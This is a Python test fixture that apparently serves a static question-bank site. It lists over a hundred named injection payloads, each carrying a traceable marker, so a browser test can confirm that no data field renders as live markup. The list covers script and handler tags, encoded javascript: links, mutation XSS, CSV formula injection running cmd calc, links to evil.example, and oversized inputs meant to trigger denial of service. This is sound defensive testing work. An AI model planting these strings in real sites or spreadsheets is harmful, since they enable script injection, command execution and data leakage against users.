"""The hostile corpus: named payloads, each carrying a marker ({M}) that must reach the site as text and never as markup.

A payload is one string as someone might write or paste it into data/: a tag, a handler, a URL however encoded,
Markdown that tries to turn escaped text back into HTML, the page's own block syntax, Unicode that breaks layouts.
`{M}` is replaced by a marker unique to the payload and the field it is put in (zq017qn: payload 17 in a question),
so a marker found anywhere in the built site says exactly which field of which payload put it there.

Where the payload tries to run code, it calls `__pwned('{M}')`, `alert('{M}')` or sets `document.title`: the browser
test defines `window.__pwned` and listens for dialogs, so anything that runs is caught by name.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

MARKER_SLOT = "{M}"
# zq + payload number + field code: letters and digits only, so Markdown, slugs and sanitisers leave it whole.
MARKER = re.compile(r"zq\d{3}[a-z]{2}")


@dataclass(frozen=True)
class Payload:
    """One hostile string; `kind` groups payloads by what they try."""

    number: int
    name: str
    kind: str
    template: str
    # True: the whole text (whitespace folded) must appear as it is in the page's text, e.g. Unicode.
    exact: bool = False

    def marker(self, field: str) -> str:
        """This payload's marker in one field (a two-letter field code)."""
        return f"zq{self.number:03d}{field}"

    def text(self, field: str) -> str:
        """The payload as written into one field."""
        return self.template.replace(MARKER_SLOT, self.marker(field))

    def line(self, field: str) -> str:
        """The payload folded onto one line, for fields that hold one line (titles, headlines, labels)."""
        return " ".join(self.text(field).split())

    @property
    def multiline(self) -> bool:
        return "\n" in self.template


# (name, kind, template); `exact` payloads are listed apart below. Order fixes each payload's number: append only.
_RAW: list[tuple[str, str, str]] = [
    # Raw tags: with raw HTML off, every one of these is text.
    ("script-tag", "tag", "<script>__pwned('{M}')</script> {M}"),
    ("script-src", "tag", '<script src="https://evil.example/{M}.js"></script> {M}'),
    ("script-upper", "tag", "<SCRIPT>__pwned('{M}')</SCRIPT> {M}"),
    ("script-split", "tag", "<scr<script>ipt>__pwned('{M}')</scr</script>ipt> {M}"),
    ("img-onerror", "tag", "<img src=x onerror=\"__pwned('{M}')\"> {M}"),
    ("img-onerror-bare", "tag", "<img src=x onerror=__pwned('{M}')//> {M}"),
    ("img-onerror-slash", "tag", "<img/src=x/onerror=__pwned('{M}')> {M}"),
    ("svg-onload", "tag", "<svg onload=__pwned('{M}')>{M}</svg>"),
    ("svg-script", "tag", "<svg><script>__pwned('{M}')</script></svg> {M}"),
    ("svg-animate-href", "tag", "<svg><a><animate attributeName=href values=javascript:__pwned('{M}') /><text>{M}</text></a></svg>"),
    ("iframe-srcdoc", "tag", "<iframe srcdoc=\"<script>parent.__pwned('{M}')</script>\"></iframe> {M}"),
    ("iframe-src-js", "tag", "<iframe src=\"javascript:__pwned('{M}')\"></iframe> {M}"),
    ("object-data", "tag", "<object data=\"javascript:__pwned('{M}')\"></object> {M}"),
    ("embed-data-url", "tag", "<embed src=\"data:text/html,<script>__pwned('{M}')</script>\"> {M}"),
    ("form-action", "tag", "<form action=\"javascript:__pwned('{M}')\"><button>{M}</button></form>"),
    ("button-formaction", "tag", "<button formaction=\"javascript:__pwned('{M}')\">{M}</button>"),
    ("base-href", "tag", '<base href="https://evil.example/{M}/"> {M}'),
    ("meta-refresh", "tag", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__pwned('{M}')\"> {M}"),
    ("style-tag", "tag", '<style>body{background:url("https://evil.example/{M}")}</style> {M}'),
    ("link-stylesheet", "tag", '<link rel="stylesheet" href="https://evil.example/{M}.css"> {M}'),
    ("details-ontoggle", "tag", "<details open ontoggle=__pwned('{M}')><summary>{M}</summary></details>"),
    ("body-onload", "tag", "<body onload=__pwned('{M}')> {M}"),
    ("input-autofocus", "tag", "<input autofocus onfocus=__pwned('{M}')> {M}"),
    ("a-onmouseover", "tag", "<a href=\"#\" onmouseover=\"__pwned('{M}')\">{M}</a>"),
    ("mathml-mxss", "tag", "<math><mtext><table><mglyph><style><img src=x onerror=__pwned('{M}')></style></mglyph></table></mtext></math> {M}"),
    ("noscript-mxss", "tag", "<noscript><p title=\"</noscript><img src=x onerror=__pwned('{M}')>\">{M}</p></noscript>"),
    ("template-tag", "tag", "<template><img src=x onerror=__pwned('{M}')></template> {M}"),
    ("video-source", "tag", "<video><source onerror=\"__pwned('{M}')\"></video> {M}"),
    ("marquee-onstart", "tag", "<marquee onstart=__pwned('{M}')>{M}</marquee>"),
    ("alert-call", "tag", "<img src=x onerror=alert('{M}')> {M}"),
    ("document-title", "tag", "<img src=x onerror=\"document.title='{M}'\"> {M}"),
    # Handlers and styles through Markdown's attribute lists (the page has attr_list; data must not).
    ("attr-list-onclick", "attribute", "{M} {: onclick=\"__pwned('{M}')\" }"),
    ("attr-list-style", "attribute", '{M} { style="position:fixed;inset:0;background:url(https://evil.example/{M})" }'),
    ("attr-list-id-top", "attribute", "{M} { #top }"),
    ("attr-list-id-stories", "attribute", "{M} { #stories .md-header }"),
    ("attr-list-trailing", "attribute", "Tell me about {M} { #x .y onclick=__pwned('{M}') }"),
    ("attr-list-heading", "attribute", "# {M} { #top onclick=__pwned('{M}') }"),
    ("style-attr-raw", "attribute", '<p style="position:fixed;top:0;left:0;width:100%;height:100%" title="{M}">{M}</p>'),
    ("span-style", "attribute", '<span style="color:red;font-size:90px">{M}</span>'),
    # URLs: javascript:, data:, vbscript: however spelt, and wherever a link can hide.
    ("md-link-js", "url", "[{M}](javascript:__pwned('{M}'))"),
    ("md-link-js-case", "url", "[{M}](JaVaScRiPt:__pwned('{M}'))"),
    ("md-link-js-dec-entity", "url", "[{M}](&#106;avascript:__pwned('{M}'))"),
    ("md-link-js-hex-entity", "url", "[{M}](&#x6A;&#x61;vascript:__pwned('{M}'))"),
    ("md-link-js-colon-entity", "url", "[{M}](javascript&colon;__pwned('{M}'))"),
    ("md-link-js-colon-numeric", "url", "[{M}](javascript&#58;__pwned('{M}'))"),
    ("md-link-js-tab", "url", "[{M}](java\tscript:__pwned('{M}'))"),
    ("md-link-js-newline", "url", "[{M}](java\nscript:__pwned('{M}'))"),
    ("md-link-js-control", "url", "[{M}](java\x01script:__pwned('{M}'))"),
    ("md-link-js-percent", "url", "[{M}](%6Aavascript:__pwned('{M}'))"),
    ("md-link-js-leading-space", "url", "[{M}](<  javascript:__pwned('{M}')>)"),
    ("md-link-js-nbsp", "url", "[{M}](\u00a0javascript:__pwned('{M}'))"),
    ("md-link-data", "url", "[{M}](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCcxJyk8L3NjcmlwdD4=)"),
    ("md-link-data-case", "url", "[{M}](DaTa:text/html,<script>__pwned('{M}')</script>)"),
    ("md-link-vbscript", "url", '[{M}](vbscript:msgbox("{M}"))'),
    ("md-image-js", "url", "![{M}](javascript:__pwned('{M}')) {M}"),
    ("md-image-data-svg", "url", "![{M}](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) {M}"),
    ("image-inside-link", "url", "[![{M}](https://evil.example/{M}.png) {M}](javascript:__pwned('{M}'))"),
    ("link-inside-emphasis", "url", "*[{M}](javascript:__pwned('{M}'))* and **_[{M}](vbscript:x)_**"),
    ("reference-link", "url", "[{M}][evil]\n\n[evil]: javascript:__pwned('{M}')"),
    ("reference-link-title", "url", "[{M}][ok]\n\n[ok]: https://ok.example/ \"x\\\" onmouseover=\\\"__pwned('{M}')\""),
    ("autolink-js", "url", "<javascript:__pwned('{M}')> {M}"),
    ("autolink-quote", "url", "<https://ok.example/\"onmouseover=\"__pwned('{M}')\"> {M}"),
    ("link-title-quote", "url", "[{M}](https://ok.example/ \"a\\\" onclick=\\\"__pwned('{M}')\")"),
    ("link-href-breakout", "url", "[{M}](https://ok.example/\"><script>__pwned('{M}')</script>)"),
    ("mailto-markup", "url", "[{M}](mailto:x@example.com?body=<script>__pwned('{M}')</script>)"),
    ("protocol-relative", "url", "[{M}](//evil.example/{M})"),
    ("bare-js-text", "url", "javascript:__pwned('{M}') {M}"),
    # Markdown that tries to turn escaped text back into HTML.
    ("escaped-lt", "markdown", "\\<script>__pwned('{M}')\\</script> {M}"),
    ("escaped-backticks", "markdown", "\\`<img src=x onerror=__pwned('{M}')>\\` {M}"),
    ("code-span-blank-line", "markdown", "`{M} <img src=x onerror=__pwned('{M}')>\n\n` after"),
    ("tilde-fence-midline", "markdown", "{M} text ~~~html\n<script>__pwned('{M}')</script>\n~~~"),
    ("backtick-fence", "markdown", "```html\n<script>__pwned('{M}')</script>\n```\n\n{M}"),
    ("fence-unclosed", "markdown", "```\n<img src=x onerror=__pwned('{M}')>\n{M}"),
    ("fence-attrs", "markdown", "``` { .html #top onclick=\"__pwned('{M}')\" }\n{M}\n```"),
    ("indented-code", "markdown", "para {M}\n\n    <script>__pwned('{M}')</script>"),
    ("div-markdown", "markdown", "<div markdown=\"1\">**{M}** <script>__pwned('{M}')</script></div>"),
    ("entity-script", "entity", "&lt;script&gt;__pwned('{M}')&lt;/script&gt; {M}"),
    ("entity-double", "entity", "&amp;lt;img src=x onerror=__pwned('{M}')&amp;gt; {M}"),
    ("entity-numeric", "entity", "&#60;img src=x onerror=__pwned('{M}')&#62; {M}"),
    ("entity-quote", "entity", "&quot; onmouseover=&quot;__pwned('{M}')&quot; x=&quot; {M}"),
    ("html-comment", "comment", "<!-- {M} --> {M} <!--><img src=x onerror=__pwned('{M}')>-->"),
    ("cdata", "comment", "<![CDATA[<script>__pwned('{M}')</script>]]> {M}"),
    ("processing-instruction", "comment", "<?xml version=\"1.0\"?><x onload=__pwned('{M}')> {M}"),
    # The page's own block syntax inside a field: it must stay text, never open a heading, tab or block.
    ("heading", "structure", "# {M} heading"),
    ("setext-heading", "structure", "{M}\n==="),
    ("tab-syntax", "structure", "=== \"{M}\"\n\n    <script>__pwned('{M}')</script>"),
    ("admonition", "structure", "!!! note \"{M}\"\n    <img src=x onerror=__pwned('{M}')>"),
    ("details", "structure", "??? danger \"{M}\"\n    body"),
    ("details-open-anchor", "structure", "???+ star \"{M}\" { #top }"),
    ("close-page-blocks", "structure", "</div></details></article><script>__pwned('{M}')</script> {M}"),
    ("star-placeholder", "structure", "<!-- star:quick-reference --> {M} <!-- star:whole-bank -->"),
    ("forged-stand-in", "structure", "\ue0000\ue001 {M} \ue0002\ue001"),
    ("attribute-quotes", "quote", "\" onmouseover=\"__pwned('{M}')\" x=\" {M}"),
    ("attribute-single-quotes", "quote", "' onmouseover='__pwned(\"{M}\")' x=' {M}"),
    ("angle-brackets", "quote", "{M} </title><script>__pwned('{M}')</script> <> >< </textarea>"),
    ("jinja-syntax", "quote", "{{ config.site_name }} {% raw %} {M} {# x #}"),
    ("long-line", "size", "{M} " + "a" * 3000 + " {M}"),
    ("long-word", "size", "{M}" + "W" * 2000),
    ("many-emphasis", "size", "{M} " + "*x" * 500),
    # Spreadsheet formulas: the CSV download is opened in Excel or LibreOffice, where a cell starting so is live.
    ("csv-formula-equals", "csv", '=HYPERLINK("https://evil.example/{M}","{M}")'),
    ("csv-formula-plus", "csv", "+1+cmd|' /C calc'!A0 {M}"),
    ("csv-formula-minus", "csv", "-2+3+cmd|' /C calc'!A0 {M}"),
    ("csv-formula-at", "csv", "@SUM(1+1)*cmd|' /C calc'!A0 {M}"),
    ("csv-formula-tab", "csv", "\t=1+1 {M}"),
    # Links that read as relative but that a browser takes off the site (WHATWG: a backslash is a slash in http(s),
    # a same-scheme address without // is a path on an https page and a host on an http one).
    ("link-slash-backslash", "url", "[{M}](/\\evil.example/{M})"),
    ("link-scheme-without-slashes", "url", "[{M}](https:evil.example/{M}) and [{M}](http:evil.example/{M})"),
    ("link-scheme-slash-backslash", "url", "[{M}](http:/\\evil.example/{M})"),
    ("link-backslashes", "url", "[{M}](\\\\evil.example/{M}) and <https:\\\\evil.example/{M}>"),
    ("link-entity-slashes", "url", "[{M}](&#47;&#47;evil.example/{M}) and [{M}](/&#9;/evil.example/{M})"),
    # Anki's own syntax in a deck's field: media, speech, LaTeX, templates, MathJax (Markdown's \\( is \( as text).
    ("anki-sound", "anki", "[sound:{M}.mp3] {M}"),
    ("anki-latex", "anki", "[latex]\\input{/etc/{M}}[/latex] [$]{M}[/$] [$$]{M}[/$$] {M}"),
    ("anki-tts", "anki", "[anki:tts lang=en_US]{M}[/anki:tts] {M}"),
    ("anki-mathjax", "anki", "\\\\(\\href{javascript:__pwned('{M}')}{x}\\\\) \\\\[{M}\\\\] {M}"),
    ("anki-template", "anki", "{{c1::{M}}} {{Front}} {M}"),
    ("anki-deck-nesting", "anki", "{M}::{M}::nested"),  # in the site's title: the deck's name
    # Full-width signs that Excel and LibreOffice read as = + - @ at the start of a cell.
    ("csv-formula-fullwidth-equals", "csv", "＝HYPERLINK(\"https://evil.example/{M}\",\"{M}\")"),
    ("csv-formula-fullwidth-plus", "csv", "＋1+cmd|' /C calc'!A0 {M}"),
    ("csv-formula-fullwidth-minus", "csv", "－2+3+cmd|' /C calc'!A0 {M}"),
    ("csv-formula-fullwidth-at", "csv", "＠SUM(1+1)*cmd|' /C calc'!A0 {M}"),
    # Thousands of digits and commas: find_quantities' number pattern backtracked over them quadratically.
    ("digits-and-commas", "size", "Counts: " + "1," * 1500 + "1 {M} done."),
]

# Unicode: the text must come through exactly, in the page and in its meta description.
_EXACT: list[tuple[str, str, str]] = [
    ("emoji", "unicode", "{M} Shipped 🎉🚀 with 👩‍👩‍👧 and 🏳️‍🌈 flags 🇫🇷"),
    ("accents", "unicode", "{M} Café naïve façade São Paulo Ærøskøbing Łódź"),
    ("rtl-override", "unicode", "{M} \u202eevil.exe\u202c normal"),
    ("zero-width", "unicode", "{M} zero\u200bwidth\u200cnon\u200djoiner\u2060word"),
    ("combining-marks", "unicode", "{M} e\u0301 a\u0308 Z\u0351\u0352\u0353"),
    ("cjk", "unicode", "{M} 漢字と仮名のテスト 한국어 中文"),
    ("astral", "unicode", "{M} 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𓂀 \U0001F600"),
]

_ALL: tuple[Payload, ...] = tuple(
    [Payload(number, name, kind, template) for number, (name, kind, template) in enumerate(_RAW, start=1)]
    + [
        Payload(number, name, kind, template, exact=True)
        for number, (name, kind, template) in enumerate(_EXACT, start=len(_RAW) + 1)
    ]
)
# Control characters (but tab and line breaks) are refused wherever they are written, with file and line:
# payloads that carry one are checked for that refusal, the rest are built into pages.
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
PAYLOADS: tuple[Payload, ...] = tuple(payload for payload in _ALL if not CONTROL.search(payload.template))
REFUSED: tuple[Payload, ...] = tuple(payload for payload in _ALL if CONTROL.search(payload.template))

BY_NAME = {payload.name: payload for payload in _ALL}

# Addresses data/site.yml's schema accepts for a link (https?://… or mailto:… with no space, quote or angle bracket),
# each as hostile as that form allows. {M} is the marker, as above.
LINK_URLS: tuple[tuple[str, str], ...] = (
    ("url-entities", "https://example.com/{M}/&#x6a;avascript:__pwned(1)"),
    ("url-percent", "mailto:x@example.com?subject={M}%22%3E%3Cscript%3E__pwned(1)%3C/script%3E"),
    ("url-backslash", "https://example.com\\@evil.example/{M}"),
    ("url-rtl", "https://example.com/{M}/\u202egnp.exe"),
    ("url-host-javascript", "http://javascript:__pwned(1)@example.com/{M}"),
    ("url-mailto-javascript", "mailto:javascript:__pwned(1)//{M}"),
)

# Markdown's own raw-HTML placeholder (STX wzxhzdk:N ETX) and other control characters: refused wherever they
# are written, so that nothing can swap them for another piece of the page.
STASH_PLACEHOLDER = "\x02wzxhzdk:0\x03"
STASH_LINK_URL = "https://example.com/zq900lu/" + STASH_PLACEHOLDER

# Each field's two-letter code in markers.
FIELD_CODES = dict((
    ("question", "qn"),
    ("headline", "hl"),
    ("situation", "sn"),
    ("task", "tk"),
    ("action", "an"),
    ("result", "rt"),
    ("tags", "tg"),
    ("follow_ups", "fu"),
    ("principle.title", "pt"),
    ("principle.summary", "ps"),
    ("principle.angle", "pa"),
    ("framework.name", "fn"),
    ("framework.angle_label", "fl"),
    ("site.title", "st"),
    ("site.owner", "ow"),
    ("site.headline", "sh"),
    ("site.intro", "in"),
    ("site.credits", "cr"),
    ("site.quick_reference.intro", "qi"),
    ("site.whole_bank.intro", "wi"),
    ("site.links.label", "lb"),
    ("site.links.url", "lu"),
))

# Text past a limit of what one field may render to (hooks/star_bank/views/data_markdown.py): refused at its file,
# line and field, never built. (name, text, what the problem line says.)
_LONG_ADDRESS = "https://evil.example/" + "a" * 2000
OVER_LIMITS: tuple[tuple[str, str, str], ...] = (
    # A reference link used thousands of times, its 2 KB address defined once: 290 times its size as HTML.
    ("amplified-reference", ("[a][r] " * 2000 + "\n\n") * 17 + f"[r]: {_LONG_ADDRESS}\n", "renders to over 512 KB of HTML"),
    ("amplified-reference-one-paragraph", "[a][r] " * 35_000 + f"\n\n[r]: {_LONG_ADDRESS}\n", "has a paragraph of 239 KB"),
    ("nested-list", "- " * 500 + "x", "is nested 500 levels deep"),
    ("nested-numbered-list", "".join("    " * level + "1. x\n" for level in range(300)), "is nested 300 levels deep"),
    ("nested-quotes", "> " * 500 + "x", "is nested 500 levels deep"),
    ("nested-emphasis", "*" * 60 + "x" + "*" * 60, "is nested 30 levels deep"),
    ("unclosed-brackets", "[" * 12_000, "has too many unclosed [ or ( to read as links"),
)
